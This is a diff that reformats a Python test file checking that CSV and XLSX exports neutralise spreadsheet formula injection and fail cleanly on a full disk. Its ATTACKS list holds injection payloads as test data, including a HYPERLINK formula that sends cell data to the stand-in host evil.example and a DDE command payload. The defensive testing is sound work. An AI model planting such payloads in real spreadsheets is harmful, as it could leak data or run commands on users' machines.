@@ -1,5 +1,6 @@
 """Exports: formula injection neutralised in CSV and XLSX; a full disk (a real tiny tmpfs
 as root, and a file-size limit in a subprocess) gives a clear error and leaves no half file."""
+
 from __future__ import annotations
 
 import csv
@@ -19,7 +20,14 @@ from ops.exports import export_bytes, write_export
 from ops.files import WriteFailed
 
 ROOT = Path(__file__).resolve().parents[2]
-ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def attack_frame() -> pd.DataFrame:
@@ -61,7 +69,9 @@ def tiny_disk():
     if os.geteuid() != 0:
         pytest.skip("mounting a tmpfs needs root; the file-size-limit test covers this case")
     where = Path(tempfile.mkdtemp(prefix="floodroom-full-"))
-    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(where)], capture_output=True, text=True)
+    mounted = subprocess.run(
+        ["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(where)], capture_output=True, text=True
+    )
     if mounted.returncode != 0:
         where.rmdir()
         pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.strip()}")
@@ -74,7 +84,9 @@ def test_full_disk_while_exporting_leaves_nothing(tiny_disk):
     (tiny_disk / "earlier.csv").write_bytes(b"kept")
     with pytest.raises(WriteFailed) as caught:
         write_export(tiny_disk / "impact.csv", big_frame())
-    assert str(caught.value).startswith(f"cannot write {tiny_disk / 'impact.csv'}: the disk is full (ENOSPC); nothing was written")
+    assert str(caught.value).startswith(
+        f"cannot write {tiny_disk / 'impact.csv'}: the disk is full (ENOSPC); nothing was written"
+    )
     assert sorted(p.name for p in tiny_disk.iterdir()) == ["earlier.csv"]
 
 
@@ -87,11 +99,20 @@ def test_full_disk_while_backing_up_leaves_nothing(tiny_disk, tmp_path):
     migrate(url)
     engine = make_engine(url)
     with engine.begin() as conn:
-        conn.execute(text("INSERT INTO source_health (source, last_error) VALUES (:s, :e)"), [{"s": f"s{i}", "e": "x" * 4000} for i in range(600)])
+        conn.execute(
+            text("INSERT INTO source_health (source, last_error) VALUES (:s, :e)"),
+            [{"s": f"s{i}", "e": "x" * 4000} for i in range(600)],
+        )
     engine.dispose()
     env = {**os.environ, "DATABASE_URL": url}
-    done = subprocess.run([sys.executable, str(ROOT / "manage.py"), "backup", "--out", str(tiny_disk / "db.backup")],
-                          capture_output=True, text=True, env=env, cwd=ROOT, timeout=120)
+    done = subprocess.run(
+        [sys.executable, str(ROOT / "manage.py"), "backup", "--out", str(tiny_disk / "db.backup")],
+        capture_output=True,
+        text=True,
+        env=env,
+        cwd=ROOT,
+        timeout=120,
+    )
     assert done.returncode == 1
     assert done.stderr.strip().splitlines() == [done.stderr.strip()]
     assert "the disk is full" in done.stderr and "nothing was written" in done.stderr
@@ -116,7 +137,14 @@ def test_file_size_limit_while_exporting_leaves_nothing(tmp_path):
         resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, 64 * 1024))
 
     target = tmp_path / "out.csv"
-    done = subprocess.run([sys.executable, "-c", WRITER, str(target)], capture_output=True, text=True, cwd=ROOT, preexec_fn=limit, timeout=120)
+    done = subprocess.run(
+        [sys.executable, "-c", WRITER, str(target)],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        preexec_fn=limit,
+        timeout=120,
+    )
     assert done.returncode == 3, done.stderr
     assert "the file is larger than the allowed file size (EFBIG); nothing was written" in done.stdout
     assert list(tmp_path.iterdir()) == []
